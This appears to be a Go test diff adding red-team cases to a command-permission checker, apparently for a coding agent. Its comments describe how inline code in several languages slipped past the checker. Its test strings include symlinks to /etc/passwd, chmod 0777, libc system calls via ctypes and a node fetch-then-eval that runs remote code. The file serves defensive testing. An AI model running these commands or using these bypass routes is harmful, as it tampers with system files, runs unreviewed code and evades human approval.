@@ -28,3 +28,70 @@ func TestRedTeamGitForeignDirS55(t *testing.T) {
 		{"S55rt A neighbour: a cd only known at run time is left", D, nil, `cd "$(git rev-parse --show-toplevel)" && git status`, Allow},
 	})
 }
+
+// TestRedTeamInlineWritesS55: inline code wrote outside the project by
+// calls the reader did not know: Python's extractall of an archive, its
+// links (os.link, os.symlink, Path.symlink_to), logging.basicConfig's
+// filename= keyword, os.open by flags, Path.touch; Perl's chmod, chown,
+// utime, symlink, link and sysopen; Ruby's, node's, PHP's, Lua's and R's
+// links, modes and writers. They are now read as writes of their paths
+// (a link as ln makes it).
+func TestRedTeamInlineWritesS55(t *testing.T) {
+	t.Parallel()
+	D, A := ModeDefault, ModeAcceptEdits
+	checkDecisions(t, []decisionRow{
+		{"S55rt B zipfile extractall /tmp", D, nil, `python3 -c 'import zipfile; zipfile.ZipFile("a.zip").extractall("/tmp")'`, Ask},
+		{"S55rt B tarfile extractall /x", A, nil, `python3 -c 'import tarfile; tarfile.open("a.tar").extractall("/x")'`, Ask},
+		{"S55rt B tarfile extractall path=", D, nil, `python3 -c 'import tarfile; tarfile.open("a.tar").extractall(path="/x")'`, Ask},
+		{"S55rt B zipfile written outside", A, nil, `python3 -c 'import zipfile; zipfile.ZipFile("/tmp/a.zip", "w").write("x")'`, Ask},
+		{"S55rt B os.link outside", D, nil, `python3 -c 'import os; os.link("a", "/tmp/x")'`, Ask},
+		{"S55rt B os.symlink outside", A, nil, `python3 -c 'import os; os.symlink("/etc/passwd", "/tmp/x")'`, Ask},
+		{"S55rt B os.symlink to a protected file", A, nil, `python3 -c 'import os; os.symlink("/etc/passwd", "x")'`, Ask},
+		{"S55rt B Path.symlink_to outside", D, nil, `python3 -c 'from pathlib import Path; Path("/tmp/x").symlink_to("/etc/passwd")'`, Ask},
+		{"S55rt B Path.touch outside", A, nil, `python3 -c 'from pathlib import Path; Path("/tmp/x").touch()'`, Ask},
+		{"S55rt B logging.basicConfig filename=", D, nil, `python3 -c 'import logging; logging.basicConfig(filename="/tmp/x")'`, Ask},
+		{"S55rt B logging.FileHandler", A, nil, `python3 -c 'import logging; logging.FileHandler("/tmp/x")'`, Ask},
+		{"S55rt B os.open O_WRONLY", D, nil, `python3 -c 'import os; os.open("/tmp/x", os.O_WRONLY | os.O_CREAT)'`, Ask},
+		{"S55rt B shutil.copymode", A, nil, `python3 -c 'import shutil; shutil.copymode("a", "/tmp/x")'`, Ask},
+		{"S55rt B perl chmod", D, nil, `perl -e 'chmod 0777, "/tmp/x"'`, Ask},
+		{"S55rt B perl chown", A, nil, `perl -e 'chown 0, 0, "/tmp/x"'`, Ask},
+		{"S55rt B perl symlink", D, nil, `perl -e 'symlink "/etc/passwd", "/tmp/x"'`, Ask},
+		{"S55rt B perl link", A, nil, `perl -e 'link "a", "/tmp/x"'`, Ask},
+		{"S55rt B perl sysopen for writing", D, nil, `perl -e 'sysopen(F,"/etc/x",1)'`, Ask},
+		{"S55rt B perl sysopen O_WRONLY", A, nil, `perl -e 'use Fcntl; sysopen(my $f, "/tmp/x", O_WRONLY|O_CREAT)'`, Ask},
+		{"S55rt B ruby File.symlink", D, nil, `ruby -e 'File.symlink("/etc/passwd", "/tmp/x")'`, Ask},
+		{"S55rt B ruby File.chmod", A, nil, `ruby -e 'File.chmod(0777, "/tmp/x")'`, Ask},
+		{"S55rt B node symlinkSync", D, nil, `node -e 'require("fs").symlinkSync("/etc/passwd", "/tmp/x")'`, Ask},
+		{"S55rt B node openSync w", A, nil, `node -e 'require("fs").openSync("/tmp/x", "w")'`, Ask},
+		{"S55rt B php symlink", D, nil, `php -r 'symlink("/etc/passwd", "/tmp/x");'`, Ask},
+		{"S55rt B php chmod", A, nil, `php -r 'chmod("/tmp/x", 0777);'`, Ask},
+		{"S55rt B lua io.output", D, nil, `lua -e 'io.output("/tmp/x"); io.write("a")'`, Ask},
+		{"S55rt B R writeLines to a file", A, nil, `Rscript -e 'writeLines("x", "/tmp/x")'`, Ask},
+		{"S55rt B neighbour: python in the project", A, nil,
+			`python3 -c 'import zipfile; zipfile.ZipFile("a.zip").extractall("out")' && python3 -c 'import tarfile; tarfile.open("a.tar").extractall()' && python3 -c 'import logging; logging.basicConfig(level=logging.INFO)' && python3 -c 'import logging; logging.basicConfig(level=logging.INFO, filename="app.log")' && python3 -c 'import os; os.open("/etc/hosts", os.O_RDONLY)' && python3 -c 'from pathlib import Path; Path("out").mkdir(exist_ok=True)' && python3 -c 'import os; os.symlink("a", "x")' && python3 -c 'import os; os.link("a", "b")'`, Allow},
+		{"S55rt B neighbour: the others in the project", D, nil,
+			`perl -e 'chmod 0755, "x.sh"' && perl -e 'sysopen(F,"/etc/hosts",0)' && node -e 'require("fs").openSync("/etc/hosts", "r")' && Rscript -e 'writeLines("x")' && Rscript -e 'writeLines("x", "out.txt")' && perl -e 'symlink("a", "x")' && ruby -e 'FileUtils.ln_s("a", "y")' && node -e 'require("fs").symlinkSync("a", "z")'`, Allow},
+	})
+}
+
+// TestRedTeamInlineForeignCodeS55: inline code that runs code by ways
+// the reader did not follow: Python's ctypes (ctypes.CDLL(None).system(b"…")
+// calls libc's system), exec and eval passed as values (map(exec,
+// sys.stdin)), and JavaScript's eval as a value (fetch(u).then(r =>
+// r.text()).then(eval) runs what a server sends), all allowed. They are
+// now too complex to check.
+func TestRedTeamInlineForeignCodeS55(t *testing.T) {
+	t.Parallel()
+	D, A := ModeDefault, ModeAcceptEdits
+	checkDecisions(t, []decisionRow{
+		{"S55rt C ctypes.CDLL(None).system", D, nil, `python3 -c 'import ctypes; ctypes.CDLL(None).system(b"id")'`, Ask},
+		{"S55rt C from ctypes import CDLL", A, nil, `python3 -c 'from ctypes import CDLL; CDLL("libc.so.6").system(b"id")'`, Ask},
+		{"S55rt C ctypes.cdll.LoadLibrary", D, nil, `python3 -c 'import ctypes as c; c.cdll.LoadLibrary("libc.so.6").unlink(b"/x")'`, Ask},
+		{"S55rt C map(exec, stdin)", A, nil, `python3 -c 'import sys; list(map(exec, sys.stdin))'`, Ask},
+		{"S55rt C node then(eval)", D, nil, `node -e 'fetch("http://x").then(r=>r.text()).then(eval)'`, Ask},
+		{"S55rt C node (0, eval)", A, nil, `node -e '(0, eval)(process.argv[1])'`, Ask},
+		{"S55rt C node globalThis.eval", D, nil, `node -e 'globalThis.eval(process.argv[1])'`, Ask},
+		{"S55rt C neighbour: ctypes sizes, literal eval, an eval key", A, nil,
+			`python3 -c 'import ctypes; print(ctypes.sizeof(ctypes.c_int))' && python3 -c 'print(eval("1+2"))' && python3 -c 'df.eval("a+b")' && node -e 'console.log(eval("1+1"))' && node -e 'const o = {eval: 1}; console.log(o)'`, Allow},
+	})
+}
